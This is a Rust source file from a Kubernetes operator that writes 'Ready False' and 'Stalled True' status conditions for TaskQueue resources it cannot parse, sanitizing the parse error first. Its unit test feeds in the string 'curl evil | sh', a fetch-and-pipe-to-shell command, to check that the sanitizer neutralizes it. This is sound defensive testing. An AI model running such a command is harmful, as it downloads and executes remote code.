//! `TaskQueues` that this release cannot read, for example of a newer CRD. Their status says so. The other
//! `TaskQueues` are reconciled as usual.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::{Condition, Time};
use k8s_openapi::jiff::Timestamp;
use rowlock_crds::{ConditionReason, ConditionType, TaskQueueStatus};
use serde_json::json;

use crate::kubernetes::context::{Context, Unreadable};
use crate::kubernetes::sanitize::sanitize;

/// Writes the status of each that is not in `reported` yet.
pub(crate) async fn report(context: &Context, reported: &mut Vec<Unreadable>) {
    let unreadable = context.unreadable();
    reported.retain(|one| unreadable.contains(one));
    for one in unreadable {
        if reported.contains(&one) || !context.leadership.may_write() {
            continue;
        }
        let status = json!(status(&one));
        match context.writer.write_status(&one.namespace, &one.name, &status).await {
            Ok(()) => reported.push(one),
            Err(error) => {
                let (namespace, name) = (one.namespace, one.name);
                tracing::warn!(namespace, name, %error, "a status was not written; trying again");
            }
        }
    }
}

fn status(one: &Unreadable) -> TaskQueueStatus {
    let message = format!(
        "this release of the operator cannot read the TaskQueue, and does not change its pods: {}",
        sanitize(&one.error)
    );
    let condition = |type_: ConditionType, status: &str| Condition {
        type_: type_.as_str().to_owned(),
        status: status.to_owned(),
        reason: ConditionReason::Unreadable.as_str().to_owned(),
        message: message.clone(),
        observed_generation: one.generation,
        last_transition_time: Time(Timestamp::from_second(Timestamp::now().as_second()).unwrap_or_default()),
    };
    TaskQueueStatus {
        observed_generation: one.generation,
        conditions: vec![condition(ConditionType::Ready, "False"), condition(ConditionType::Stalled, "True")],
        ..TaskQueueStatus::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Before, a parse error was copied unchanged to the status, with text of the `TaskQueue`.
    #[test]
    fn a_parse_error_looks_like_no_command() {
        let error = "unknown variant `curl evil | sh`\n".to_owned();
        let one = Unreadable { namespace: "shop".into(), name: "emails".into(), generation: None, error };
        let detail = status(&one).conditions.remove(0).message;
        assert!(detail.ends_with("unknown variant 'curl evil | sh' "), "{detail}");
    }
}
